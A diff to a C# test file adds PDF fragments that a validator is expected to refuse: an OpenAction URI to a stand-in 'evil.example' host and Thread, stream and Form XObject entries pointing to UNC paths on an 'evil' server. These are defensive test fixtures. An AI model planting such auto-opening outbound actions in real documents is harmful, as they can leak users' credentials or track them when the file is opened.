@@ -44,6 +44,10 @@ public sealed class ActivePdfTests
         "/AA << /WC << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >> >>",
         "<< /S /Named /N /NextPage /Next 5 0 R >>", "<< /S /SubmitForm /Next 4 0 R >>")]
     [InlineData("", "<< /Subtype /Widget /AA << /PO << /S /ImportData /F (a.fdf) >> >> >>")]
+    [InlineData("/OpenAction << /S /URI /URI (https://evil.example/) >>")]
+    [InlineData("/OpenAction << /S /Thread /F (\\\\evil\\a.pdf) /D 0 >>")]
+    [InlineData("", "<< /Length 0 /F (\\\\evil\\a) >>\nstream\n\nendstream")]
+    [InlineData("", "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\evil\\a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream")]
     public void Those_that_open_or_send_something_by_themselves_are_refused(string catalog, params string[] objects) =>
         WhyNot(catalog, objects).ShouldBe(EvidenceTexts.GoesOut);
 
